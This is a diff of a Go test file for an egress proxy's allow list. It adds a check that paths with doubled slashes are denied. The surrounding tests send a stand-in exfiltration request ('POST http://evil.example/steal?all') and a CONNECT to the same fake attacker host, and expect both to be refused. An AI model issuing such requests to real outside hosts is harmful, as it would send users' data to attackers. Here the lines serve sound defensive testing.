@@ -312,6 +312,7 @@ func TestTheZeroDoorLetsNothingOut(t *testing.T) {
 
 func TestADenialTellsProgramModelAndPerson(t *testing.T) {
 	d, got := opened(t, Config{}, "example.com", "GET api.example.com/v1/*")
+	strict, _ := opened(t, Config{}, "GET api.example.com/v1/*")
 	c := program(t, d)
 	a := ask(t, c, "POST", "http://evil.example/steal?all")
 	if a.status != 403 || a.header.Get(deniedHeader) != "host: evil.example:80 is not among the hosts that may be reached" ||
@@ -328,6 +329,9 @@ func TestADenialTellsProgramModelAndPerson(t *testing.T) {
 	if err := json.Unmarshal([]byte(a.body), &problem); err != nil || a.status != 403 || problem.Error.Code != fault.Denied || problem.Error.Cause != "request" ||
 		!strings.Contains(problem.Error.Hint, "as POST api.example.com:80/v1/x, in the configuration's network.allow") || a.header.Get("Content-Type") != "application/json" {
 		t.Errorf("as JSON: %+v, %v", a, err)
+	}
+	if a := ask(t, program(t, strict), "GET", "http://api.example.com/v1//x"); a.status != 403 || !strings.HasSuffix(a.body, "doubled or escaped slashes.\n") {
+		t.Errorf("what no rule would allow: %+v", a)
 	}
 	if a := ask(t, c, "GET", "https://evil.example"); a.err == nil || !strings.Contains(a.err.Error(), "Forbidden by paddock: evil.example:443 is not among the hosts") {
 		t.Errorf("CONNECT: %v", a.err)
